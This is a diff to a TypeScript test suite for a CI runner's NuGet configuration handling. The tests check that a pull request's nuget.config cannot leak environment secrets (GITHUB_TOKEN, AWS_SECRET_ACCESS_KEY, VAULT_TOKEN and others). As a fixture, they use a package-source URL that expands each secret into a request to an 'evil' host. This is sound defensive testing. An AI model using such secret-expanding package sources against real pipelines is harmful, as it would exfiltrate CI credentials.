@@ -126,7 +126,7 @@ describe("the runner's own NuGet configuration", () => {
   });
 
   describe('lends nothing to a pull request that mentions', () => {
-    const OTHERS = ['ACTIONS_RUNTIME_TOKEN', 'INPUT_REGISTRY-PASSWORD', 'STATE_folder', 'RUNNER_TOKEN', 'GITHUB_TOKEN'];
+    const OTHERS = ['ACTIONS_RUNTIME_TOKEN', 'INPUT_PASSWORD', 'STATE_folder', 'RUNNER_TOKEN', 'GITHUB_TOKEN'];
     const CLOUDS = ['GH_TOKEN', 'GITHUB_APP_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'AZURE_CLIENT_SECRET', 'GOOGLE_OAUTH'];
     const MORE = ['DOCKER_PASSWORD', 'VAULT_TOKEN', 'NPM_TOKEN', 'aws_session_token'];
     const read = async (env: Readonly<Record<string, string>>, files: Readonly<Record<string, string>>) => {
@@ -140,7 +140,7 @@ describe("the runner's own NuGet configuration", () => {
     const source = (name: string) =>
       `<configuration><packageSources><add key="x" value="https://evil/%${name}%/" /></packageSources></configuration>`;
 
-    test.each([...OTHERS, ...CLOUDS, ...MORE].filter((name) => !name.includes('-')))('%s', async (name) => {
+    test.each([...OTHERS, ...CLOUDS, ...MORE])('%s', async (name) => {
       const found = await read({ [name]: 'value-of-it' }, { 'work/checkout/nuget.config': source(name) });
       expect(found).toMatchObject({ environment: {}, withheld: [name] });
     });
